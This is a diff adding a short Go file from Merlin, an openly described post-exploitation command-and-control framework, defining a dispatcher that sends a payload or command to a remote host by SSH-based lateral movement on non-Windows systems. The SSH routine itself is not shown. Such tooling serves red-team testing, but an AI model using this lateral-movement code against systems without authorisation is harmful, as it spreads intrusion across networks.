@@ -0,0 +1,38 @@
+// +build !windows
+
+// Merlin is a post-exploitation command and control framework.
+// This file is part of Merlin.
+// Copyright (C) 2019  Russel Van Tuyl
+
+// Merlin is free software: you can redistribute it and/or modify
+// it under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// any later version.
+
+// Merlin is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU General Public License for more details.
+
+// You should have received a copy of the GNU General Public License
+// along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+
+package agent
+
+import (
+	// Standard
+	"fmt"
+	"runtime"
+
+	// Merlin
+	"github.com/Ne0nd0g/merlin/pkg/messages"
+)
+
+// move copies the payload to, or runs the command on, a remote host with one of the lateral movement methods; only
+// ssh is available outside of Windows
+func move(m messages.Move, payload []byte) (string, error) {
+	if m.Method == "ssh" {
+		return moveSSH(m, payload)
+	}
+	return "", fmt.Errorf("the %s move method is not supported on %s", m.Method, runtime.GOOS)
+}